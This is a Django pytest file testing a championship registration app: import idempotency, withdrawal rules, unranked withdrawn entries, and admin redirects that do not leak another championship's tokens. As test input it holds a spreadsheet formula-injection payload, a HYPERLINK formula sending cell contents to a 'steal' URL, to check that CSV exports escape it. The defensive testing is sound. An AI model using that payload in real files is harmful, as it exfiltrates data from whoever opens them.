"""Integrity of what the public and the organisers hand in: once, in its place, to its owner.

A CSV import confirmed twice imports once; a CSV cell never runs as a formula; an
entrant withdraws only until the first round starts, and a withdrawn entry is
never ranked; the admin's "view on site" shows no other championship's tokens.
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from django.contrib.contenttypes.models import ContentType
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db.models import F
from django.utils import timezone

from championship.models import ChampionshipRole, Round, Seat, Table
from championship.services import organiser_account_set
from core import csvfile
from registration import bulk, csv_io, csv_jobs, services
from registration.models import Entry, StoredImport
from results.models import Result
from results.services import standings_ensure, standings_recompute
from tests import factories
from tests.factories import NEXT_YEAR

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("english")]

ORGANISER = ChampionshipRole.Role.ORGANISER
START = datetime(NEXT_YEAR, 3, 14, 9, tzinfo=UTC)


@pytest.fixture
def future(db):
    return factories.championship(slug=f"rm-{NEXT_YEAR}", starts_at=START, language="en")


def messages_of(client, url) -> str:
    return client.get(url).text


# A CSV import confirmed twice ------------------------------------------------------------------

THREE_ROWS = "\n".join(
    [
        "name,email,birth_date,region",
        "Anne,anne@example.org,1990-01-01,Rogaland",
        "Bjørn,bjorn@example.org,1991-02-02,Rogaland",
        "Cecilie,cecilie@example.org,1992-03-03,Rogaland",
    ]
).encode()


@pytest.fixture
def organiser_client(client, future):
    client.force_login(factories.role(future, ORGANISER, username="desk"))
    return client


def upload(client, championship, data: bytes = THREE_ROWS) -> str:
    """Upload a file for the individual category; return the preview's address."""
    response = client.post(
        f"/{championship.slug}/manage/entries/import/",
        {
            "file": SimpleUploadedFile("entries.csv", data, content_type="text/csv"),
            "category": "individual",
        },
    )
    assert response.status_code == 302, response.content.decode()[:2000]
    return response.url


def test_a_second_confirmation_imports_nothing_and_says_the_import_was_done(
    organiser_client, future
):
    preview_url = upload(organiser_client, future)

    first = organiser_client.post(preview_url, {"action": "import"})
    assert "3 entries imported" in messages_of(organiser_client, first.url)
    second = organiser_client.post(preview_url, {"action": "import"})

    assert Entry.objects.count() == 3
    assert second.status_code == 302
    page = messages_of(organiser_client, second.url)
    assert "This import was done already: nothing was imported again." in page
    # Opening the preview again says the same, and imports nothing either.
    again = organiser_client.get(preview_url)
    assert "This import was done already" in messages_of(organiser_client, again.url)
    assert Entry.objects.count() == 3


def test_a_confirmation_that_read_the_import_before_another_confirmed_it_imports_nothing(
    organiser_client, future
):
    """Two confirmations at the same instant: both read the import, one imports it."""
    upload(organiser_client, future)
    stored = StoredImport.objects.get()
    individual = future.categories.get(key="individual")
    rows = csv_io.parse_entries(
        stored.text, championship=future, default_category=individual
    ).to_import
    # Both requests hold the import as it was before either confirmed it.
    stale = StoredImport.objects.get(pk=stored.pk)

    job = csv_jobs.import_confirm(stored=stored, rows=rows, language="en")
    with pytest.raises(csv_jobs.ImportAlreadyDone):
        csv_jobs.import_confirm(stored=stale, rows=rows, language="en")

    assert (job.state, job.confirmed) == (StoredImport.State.DONE, 3)
    assert Entry.objects.count() == 3


def test_a_batch_that_fails_is_saved_whole_or_not_at_all(organiser_client, future, monkeypatch):
    """A batch and the import's progress are one transaction: a failure undoes the batch only."""
    monkeypatch.setattr(csv_jobs, "BATCH_ROWS", 2)
    preview_url = upload(organiser_client, future)
    real_import = bulk.entries_import
    batches = []

    def fail_the_second_batch(*, rows, language):
        batches.append(len(rows))
        saved = real_import(rows=rows, language=language)
        if len(batches) == 2:
            raise RuntimeError("the database went away")
        return saved

    monkeypatch.setattr(bulk, "entries_import", fail_the_second_batch)
    response = organiser_client.post(preview_url, {"action": "import"})

    stored = StoredImport.objects.get()
    assert response.url == f"/{future.slug}/manage/entries/import/{stored.token}/progress/"
    assert (stored.state, stored.rows_done, stored.rows_total) == ("running", 2, 3)
    assert stored.error == "RuntimeError: the database went away"
    assert sorted(Entry.objects.values_list("name", flat=True)) == ["Anne", "Bjørn"]
    monkeypatch.undo()
    # The worker goes on where it stopped, once the import has not moved for a while.
    StoredImport.objects.update(progressed_at=timezone.now() - csv_jobs.STALE_AFTER)
    (job,) = csv_jobs.import_jobs_run()
    assert (job.state, job.rows_done, job.confirmed) == ("done", 3, 3)
    assert sorted(Entry.objects.values_list("name", flat=True)) == ["Anne", "Bjørn", "Cecilie"]
    page = organiser_client.get(response.url).text
    assert "3 entries imported: 3 confirmed, 0 on the waiting list." in page


def test_an_import_token_with_a_nul_is_not_found(organiser_client, future):
    response = organiser_client.post(
        f"/{future.slug}/manage/entries/import/abc%00def/", {"action": "import"}
    )
    assert response.status_code == 302
    assert "This import is no longer available" in messages_of(organiser_client, response.url)


# Public CSV exports: no cell runs as a formula ------------------------------------------------

FORMULA = '=HYPERLINK("http://example.org/steal?"&A1,"Open")'


def test_a_formula_as_an_entrants_name_is_neutral_in_the_public_result_csvs(client, future):
    individual = future.categories.get(kind="individual")
    final = individual.rounds.get()
    heat = factories.heat(final, key="a")
    for minutes, name in enumerate([FORMULA, "-Minus", "Åse Økland"], start=30):
        person = factories.person(future, name=name, region="Rogaland", birth_date=date(1990, 1, 1))
        entry = factories.entry(individual, members=[person], name=name, publish_consent=True)
        Seat.objects.create(heat=heat, table=factories.table(future), entry=entry)
        Result.objects.create(
            round=final, heat=heat, entry=entry, status="finished", time_ms=minutes * 60_000
        )
    standings_recompute(round_=final)

    for path in (
        f"/{future.slug}/results/{final.key}.csv",
        f"/{future.slug}/results/category/individual.csv",
    ):
        response = client.get(path)  # anonymous: these files are public
        assert response.status_code == 200, path
        rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8"))))
        by_place = {row["place"]: row for row in rows}
        assert by_place["1"]["name"] == "'" + FORMULA, path
        assert by_place["1"]["members"] == "'" + FORMULA, path
        assert by_place["2"]["name"] == "'-Minus", path
        assert by_place["3"]["name"] == "Åse Økland", path
        # Numbers the application wrote stay numbers.
        assert by_place["1"]["final_seconds"] == "1800", path
        assert not any(cell.startswith(tuple("=+-@")) for row in rows for cell in row.values())


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (-3, "-3"),
        (Decimal("-12.50"), "-12.50"),
        (-0.5, "-0.5"),
        ("-3", "'-3"),
        ("+47 51 00 00 00", "'+47 51 00 00 00"),
        (True, "True"),
    ],
)
def test_a_number_stays_a_number_and_text_that_looks_like_one_is_neutral(value, cell):
    assert csvfile.cell(value) == cell


# Withdrawing: the entrant until the first round starts; a withdrawn entry is never ranked -----


@pytest.fixture
def seated(future):
    """Two confirmed entries seated in the individual final's heat, not started yet."""
    individual = future.categories.get(kind="individual")
    final = individual.rounds.get()
    heat = factories.heat(final, key="a")
    entries = []
    for name in ("Vinner", "Toer"):
        person = factories.person(future, name=name, region="Rogaland", birth_date=date(1990, 1, 1))
        entry = factories.entry(individual, members=[person], name=name, publish_consent=True)
        Seat.objects.create(heat=heat, table=factories.table(future), entry=entry)
        entries.append(entry)
    return final, heat, entries


def withdraw_link(entry) -> str:
    return f"/{entry.category.championship.slug}/entries/{entry.manage_token}/withdraw/"


def manage_link(entry) -> str:
    return f"/{entry.category.championship.slug}/entries/{entry.manage_token}/"


def test_an_entrant_withdraws_before_the_first_round_starts(client, seated):
    _final, _heat, (entry, _other) = seated
    response = client.post(withdraw_link(entry), {"confirm": "yes"})
    assert response.status_code == 302
    entry.refresh_from_db()
    assert entry.status == Entry.Status.WITHDRAWN


def test_once_the_first_round_started_only_the_organiser_withdraws(client, future, seated):
    _final, heat, (entry, _other) = seated
    heat.started_at = timezone.now()
    heat.save(update_fields=["started_at"])
    refusal = "The first round has started: the entry can no longer be withdrawn here."

    page = client.get(manage_link(entry)).text
    assert refusal in page
    assert withdraw_link(entry) not in page  # no form to withdraw

    response = client.post(withdraw_link(entry), {"confirm": "yes"})
    assert response.status_code == 302
    assert refusal in client.get(response.url).text
    entry.refresh_from_db()
    assert entry.status == Entry.Status.CONFIRMED

    client.force_login(factories.role(future, ORGANISER))
    response = client.post(
        f"/{future.slug}/manage/entries/{entry.pk}/withdraw/", {"confirm": "yes"}
    )
    assert response.status_code == 302
    entry.refresh_from_db()
    assert entry.status == Entry.Status.WITHDRAWN


def test_a_withdrawn_entry_with_a_result_is_never_ranked(client, future, seated):
    final, heat, (winner, second) = seated
    heat.started_at = timezone.now()
    heat.save(update_fields=["started_at"])
    for minutes, entry in ((30, winner), (40, second)):
        Result.objects.create(
            round=final, heat=heat, entry=entry, status="finished", time_ms=minutes * 60_000
        )
    standings_recompute(round_=final)
    assert Result.objects.get(entry=winner).place == 1

    services.entry_withdraw(entry=winner)

    withdrawn = Result.objects.get(entry=winner)
    assert (withdrawn.place, withdrawn.official_place, withdrawn.prize) == (None, None, None)
    assert withdrawn.qualified is False
    assert Result.objects.get(entry=second).place == 1
    # The public results say the same.
    rows = client.get(f"/api/v1/championships/{future.slug}/rounds/{final.key}/results/").json()[
        "rows"
    ]
    places = {row["entry"]["name"]: row["place"] for row in rows}
    assert places == {"Toer": 1, "Vinner": None}
    # A later ranking from the stored outcomes (as after a judge's capture) keeps it unranked.
    Round.objects.filter(pk=final.pk).update(version=F("version") + 1)
    assert standings_ensure(final)
    assert Result.objects.get(entry=winner).place is None
    assert Result.objects.get(entry=second).place == 1


# The admin's "view on site" -------------------------------------------------------------------


@pytest.fixture
def two_championships(db):
    alpha = factories.championship(slug="alpha", starts_at=START)
    bravo = factories.championship(slug="bravo", starts_at=START)
    return alpha, bravo


def view_on_site(model, pk) -> str:
    return f"/admin/r/{ContentType.objects.get_for_model(model).pk}/{pk}/"


def test_view_on_site_never_reveals_another_championships_table_token(client, two_championships):
    alpha, bravo = two_championships
    own, other = factories.table(alpha), factories.table(bravo)
    user, _password = organiser_account_set(username="alpha-organiser")
    ChampionshipRole.objects.create(championship=alpha, user=user, role=ORGANISER)
    client.force_login(user)

    response = client.get(view_on_site(Table, other.pk))

    assert response.status_code == 404
    assert other.token not in response.text
    assert other.token not in response.get("Location", "")
    mine = client.get(view_on_site(Table, own.pk))
    assert mine.status_code == 302
    assert mine["Location"].endswith(f"/t/{own.token}/")
    # Nor for another championship itself, an unknown object, type or id.
    assert client.get(view_on_site(type(bravo), bravo.pk)).status_code == 404
    assert client.get(view_on_site(Table, 999_999)).status_code == 404
    assert client.get(view_on_site(Table, "abc")).status_code == 404
    assert client.get("/admin/r/999999/1/").status_code == 404


def test_view_on_site_takes_a_superuser_anywhere(admin_client, two_championships):
    _alpha, bravo = two_championships
    other = factories.table(bravo)
    response = admin_client.get(view_on_site(Table, other.pk))
    assert response.status_code == 302
    assert response["Location"].endswith(f"/t/{other.token}/")


def test_view_on_site_is_for_staff_only(client, two_championships):
    _alpha, bravo = two_championships
    other = factories.table(bravo)
    response = client.get(view_on_site(Table, other.pk))
    assert response.status_code == 302
    assert response["Location"].startswith("/admin/login/")
    assert other.token not in response["Location"]
